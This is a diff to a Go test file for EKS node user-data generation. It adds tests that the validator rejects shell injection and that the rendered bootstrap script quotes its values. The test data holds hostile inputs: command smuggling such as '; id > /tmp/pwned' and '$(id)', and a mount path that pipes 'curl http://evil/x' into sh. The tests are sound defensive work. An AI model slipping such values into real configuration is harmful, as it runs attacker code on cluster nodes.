@@ -2,6 +2,7 @@ package eks
 
 import (
 	"encoding/base64"
+	"slices"
 	"strings"
 	"testing"
 
@@ -57,7 +58,7 @@ func TestUserDataShapes(t *testing.T) {
 		want   []string // in order
 	}{
 		{v1alpha1.OSFamilyAmazonLinux2, []string{"#!/bin/bash", "echo pre",
-			"/etc/eks/bootstrap.sh 'prod' --kubelet-extra-args '--node-labels=team=a --max-pods=58 --v=2' --apiserver-endpoint 'https://prod.eks.example' --b64-cluster-ca 'Q0E=' --container-runtime containerd",
+			"/etc/eks/bootstrap.sh 'prod' --kubelet-extra-args '--node-labels=team=a --max-pods=58 --v=2' --apiserver-endpoint 'https://prod.eks.example' --b64-cluster-ca 'Q0E=' '--container-runtime=containerd'",
 			"echo post"}},
 		{v1alpha1.OSFamilyAmazonLinux2023, []string{"multipart/mixed", "echo pre", "kind: NodeConfig", "apiServerEndpoint: https://prod.eks.example",
 			"cidr: 10.100.0.0/16", "maxPods: 58", `- "--node-labels=team=a"`, `- "--v=2"`, "echo post"}},
@@ -81,16 +82,46 @@ func TestUserDataShapes(t *testing.T) {
 }
 
 func TestSplitExtraArgs(t *testing.T) {
-	cases := []struct{ in, rest, kubelet string }{
-		{"", "", ""},
-		{"--kubelet-extra-args=--v=2", "", "--v=2"},
-		{"--use-max-pods false --kubelet-extra-args '--v=2 --node-ip=1.2.3.4'", "--use-max-pods false", "--v=2 --node-ip=1.2.3.4"},
-		{`--kubelet-extra-args "--v=4" --dns-cluster-ip 10.0.0.10`, "--dns-cluster-ip 10.0.0.10", "--v=4"},
+	cases := []struct {
+		in            string
+		rest, kubelet []string
+	}{
+		{"", nil, nil},
+		{"--kubelet-extra-args=--v=2", nil, []string{"--v=2"}},
+		{"--use-max-pods false --kubelet-extra-args '--v=2 --max-pods=20'", []string{"--use-max-pods=false"}, []string{"--v=2", "--max-pods=20"}},
+		{`--kubelet-extra-args "--v=4" --dns-cluster-ip 10.0.0.10`, []string{"--dns-cluster-ip=10.0.0.10"}, []string{"--v=4"}},
+		{"--kubelet-extra-args '--v=2' ; id > /tmp/pwned", nil, nil},
 	}
 	for _, tc := range cases {
 		rest, kubelet := splitExtraArgs(tc.in)
-		if rest != tc.rest || kubelet != tc.kubelet {
+		if !slices.Equal(rest, tc.rest) || !slices.Equal(kubelet, tc.kubelet) {
 			t.Errorf("splitExtraArgs(%q) = %q, %q; want %q, %q", tc.in, rest, kubelet, tc.rest, tc.kubelet)
+		}
+	}
+}
+
+// The review's exploit strings never reach a shell line: Validate refuses
+// them, and the rendering quotes what it interpolates.
+func TestUserDataIsShellSafe(t *testing.T) {
+	for name, b := range map[string]bootstrap{
+		"bootstrap arguments": {extraArgs: "--kubelet-extra-args '--v=2' ; id > /tmp/pwned"},
+		"taints removed":      {extraArgs: "--kubelet-extra-args '--register-with-taints='"},
+		"mount path":          {volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data; curl http://evil/x | sh #"}}}},
+		"device":              {volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb$(id)"}}},
+		"file system":         {volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs;id", Mount: "/data"}}}},
+	} {
+		if err := b.Validate(); err == nil {
+			t.Errorf("%s: Validate accepted %+v", name, b)
+		}
+	}
+	ok := bootstrap{cluster: ClusterInfo{Name: "c'l"}, volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data"}}}}
+	if err := ok.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	ud := ok.UserData()
+	for _, want := range []string{"mkfs -t 'xfs' '/dev/xvdb' && mkdir -p '/data' && mount '/dev/xvdb' '/data'", "echo '/dev/xvdb /data xfs defaults,nofail 0 2' >> /etc/fstab", `/etc/eks/bootstrap.sh 'c'\''l'`} {
+		if !strings.Contains(ud, want) {
+			t.Errorf("user data lacks %q:\n%s", want, ud)
 		}
 	}
 }
